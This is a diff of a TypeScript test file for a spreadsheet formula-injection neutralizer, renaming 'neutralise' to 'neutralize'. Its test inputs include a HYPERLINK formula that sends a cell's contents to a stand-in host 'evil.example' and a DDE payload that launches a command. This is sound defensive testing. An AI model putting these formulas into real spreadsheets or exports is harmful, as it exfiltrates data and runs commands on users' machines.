@@ -1,9 +1,9 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { neutralise, restore } from './formula.ts';
+import { neutralize, restore } from './formula.ts';
 import { anyText } from './testing/naughty-texts.ts';
 
-describe('neutralise', () => {
+describe('neutralize', () => {
   it.each([
     '=1+1',
     '+1',
@@ -25,22 +25,22 @@ describe('neutralise', () => {
     '=HYPERLINK("https://evil.example?x="&A1,"Click")',
     "=cmd|'/C calc'!A0",
   ])('puts an apostrophe before %j', (text) => {
-    expect(neutralise(text)).toBe(`'${text}`);
+    expect(neutralize(text)).toBe(`'${text}`);
   });
 
   it.each(['', 'Main contract', '1+1', 'a=b', '2026-03-01', '“=”', '北京', '(-1)', '#REF!'])(
     'leaves %j unchanged',
     (text) => {
-      expect(neutralise(text)).toBe(text);
+      expect(neutralize(text)).toBe(text);
     },
   );
 
   it('doubles a leading apostrophe to tell it from an added one', () => {
-    expect(neutralise("'=1")).toBe("''=1");
+    expect(neutralize("'=1")).toBe("''=1");
     expect(restore("''=1")).toBe("'=1");
   });
 
   it('is undone by restore, for any text', () => {
-    fc.assert(fc.property(anyText(), (text) => restore(neutralise(text)) === text));
+    fc.assert(fc.property(anyText(), (text) => restore(neutralize(text)) === text));
   });
 });
